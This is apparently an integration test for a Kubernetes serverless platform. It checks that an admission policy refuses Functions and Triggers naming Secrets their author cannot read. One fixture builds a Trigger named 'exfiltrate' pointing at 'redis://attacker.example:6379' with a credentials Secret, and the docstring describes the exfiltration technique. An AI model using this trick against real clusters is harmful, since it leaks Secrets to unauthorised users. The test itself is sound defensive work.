"""Issue 17, item 11: the optional admission check on the Secrets a Function or Trigger names.

The attack: someone who may create Functions and Triggers in a namespace, but not read its Secrets, names a
Secret there (``envFrom``, a broker's ``credentialsSecret``) to have its contents put in a pod they control or
sent to a broker address they chose. With ``helm/kubelambda/files/secret-reference-policy.yaml`` applied (the chart's ``admission.secretReferences.enabled``) (off by default), the
API server refuses that; it still admits objects naming no Secret, objects naming Secrets the author may get,
and everything an administrator does.
"""

from __future__ import annotations

import json
import subprocess
from collections.abc import Iterator
from typing import Any

import pytest

from kltest import Cluster, wait_for
from kltest.platform import REPO, install_crds
from kubelambda.api.v1alpha1 import API_VERSION
from kubelambda.kube import KubeClient

pytestmark = pytest.mark.integration
JSON = dict[str, Any]
POLICY = REPO / "helm" / "kubelambda" / "files" / "secret-reference-policy.yaml"
HANDLER = "def handler(event, context):\n    return event\n"


@pytest.fixture
def policy(cluster: Cluster) -> Iterator[None]:
    cluster.kubectl("apply", "-f", str(POLICY))
    try:
        yield
    finally:
        cluster.kubectl("delete", "-f", str(POLICY), "--ignore-not-found")


def function(name: str, secret: str | None = None) -> JSON:
    spec: JSON = {"runtime": "python3.11", "handler": "app.handler", "code": {"inline": {"app.py": HANDLER}}}
    if secret is not None:
        spec["envFrom"] = [{"secretRef": {"name": secret}}]
    return {"apiVersion": API_VERSION, "kind": "Function", "metadata": {"name": name}, "spec": spec}


def trigger(name: str, secret: str) -> JSON:
    redis = {"url": "redis://attacker.example:6379", "key": "jobs", "credentialsSecret": secret}
    return {
        "apiVersion": API_VERSION,
        "kind": "Trigger",
        "metadata": {"name": name},
        "spec": {"function": "plain", "queue": {"redis": redis}},
    }


def create(cluster: Cluster, namespace: str, doc: JSON, *, user: str | None, dry_run: bool = False) -> str:
    """``kubectl create`` as ``user`` (impersonated; None = the administrator): "" when admitted, else the error."""
    args = ["create", "-n", namespace, "-f", "-"]
    if user is not None:
        args.append(f"--as={user}")
    if dry_run:
        args.append("--dry-run=server")
    result: subprocess.CompletedProcess[str] = cluster.kubectl(*args, input=json.dumps(doc), check=False)
    return "" if result.returncode == 0 else result.stderr


async def test_an_author_may_name_only_secrets_they_may_get(
    cluster: Cluster, kube: KubeClient, namespace: str, policy: None
) -> None:
    await install_crds(cluster, kube)
    author = f"system:serviceaccount:{namespace}:author"
    rbac = [
        {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": "author"}},
        {
            "apiVersion": "v1",
            "kind": "Secret",
            "metadata": {"name": "db-creds"},
            "stringData": {"password": "x"},
        },
        {
            "apiVersion": "rbac.authorization.k8s.io/v1",
            "kind": "Role",
            "metadata": {"name": "author"},
            "rules": [
                {
                    "apiGroups": ["kubelambda.io"],
                    "resources": ["functions", "triggers"],
                    "verbs": ["create", "get", "list", "update", "patch"],
                }
            ],
        },
        {
            "apiVersion": "rbac.authorization.k8s.io/v1",
            "kind": "RoleBinding",
            "metadata": {"name": "author"},
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "author"},
            "subjects": [{"kind": "ServiceAccount", "name": "author", "namespace": namespace}],
        },
    ]
    cluster.apply(rbac, namespace)

    # The policy is enforced once the API server has loaded it (dry runs pass through admission, write nothing).
    refused = await wait_for(
        lambda: _async(create(cluster, namespace, function("probe", "db-creds"), user=author, dry_run=True)),
        bool,
        what="the secret-reference policy enforced",
        timeout=60,
    )
    status = cluster.kubectl("get", "validatingadmissionpolicies", "-o", "json").stdout
    assert "names Secrets of which you may not get one or more: db-creds" in refused, (refused, status)
    error = create(cluster, namespace, function("leaky", "db-creds"), user=author)
    assert "names Secrets of which you may not get one or more: db-creds" in error, error
    error = create(cluster, namespace, trigger("exfiltrate", "db-creds"), user=author)
    assert "this Trigger names Secrets of which you may not get one or more: db-creds" in error, error

    # Nothing else broke: no Secret named, an administrator, and an author allowed to get the Secret.
    assert create(cluster, namespace, function("plain"), user=author) == ""
    assert create(cluster, namespace, function("admins", "db-creds"), user=None) == ""
    reader = {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": "Role",
        "metadata": {"name": "author-reads-db-creds"},
        "rules": [
            {"apiGroups": [""], "resources": ["secrets"], "resourceNames": ["db-creds"], "verbs": ["get"]}
        ],
    }
    binding = {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": "RoleBinding",
        "metadata": {"name": "author-reads-db-creds"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "author-reads-db-creds"},
        "subjects": [{"kind": "ServiceAccount", "name": "author", "namespace": namespace}],
    }
    cluster.apply([reader, binding], namespace)
    await wait_for(
        lambda: _async(create(cluster, namespace, function("granted", "db-creds"), user=author)),
        lambda error: error == "",
        what="the author's Function admitted once they may get the Secret",
        timeout=60,
    )
    assert create(cluster, namespace, trigger("allowed", "db-creds"), user=author) == ""


async def _async(value: str) -> str:
    return value
